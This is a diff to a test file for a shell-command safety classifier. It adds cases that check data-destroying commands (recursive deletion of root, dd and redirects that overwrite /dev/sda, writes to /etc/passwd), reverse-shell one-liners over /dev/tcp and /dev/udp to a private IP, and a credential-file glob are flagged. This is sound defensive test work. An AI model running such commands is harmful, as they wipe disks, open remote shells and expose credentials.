@@ -334,6 +334,32 @@ describe('classifyCommand', () => {
     expect(classes(command)).toEqual(EVERY);
   });
 
+  it('reads absolute paths as the kernel does: repeated slashes, dot-dot and globs', () => {
+    for (const command of [
+      'rm -rf //*',
+      'rm -rf /etc/../*',
+      'rm -rf /*/',
+      'rm -rf /[a-z]*',
+      'rm -rf /?*',
+      'rm -rf ../../..',
+      'dd if=/dev/zero of=/dev/../dev/sda',
+      'dd if=/dev/zero of=//dev/sda',
+      'cat /dev/zero > //dev/sda',
+      'echo x > /etc/./passwd',
+    ]) {
+      expect(classes(command), command).toEqual(['destructive']);
+    }
+    for (const command of ['rm -rf /tmp/build/*', 'rm -rf ./dist/../out', 'dd if=a.img of=/tmp/b.img']) {
+      expect(classes(command), command).toEqual([]);
+    }
+  });
+
+  it('knows a connection through /dev/tcp, and a shell on one runs what it is sent', () => {
+    expect(classes('echo hi > /dev/tcp/example.com/80')).toEqual(['network']);
+    expect(classes('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1')).toEqual(['downloadExec', 'network']);
+    expect(classes('sh -i < /dev/udp//10.0.0.1/53')).toEqual(['downloadExec', 'network']);
+  });
+
   it('judges a long list of globs without compiling the ones that cannot name a credential', () => {
     expect(classes(`cat ${'ab* '.repeat(20_000)}`)).toEqual([]);
     expect(classes(`cat ${'ab* '.repeat(20_000)} ~/.aws/cred*`)).toEqual(['credentials']);
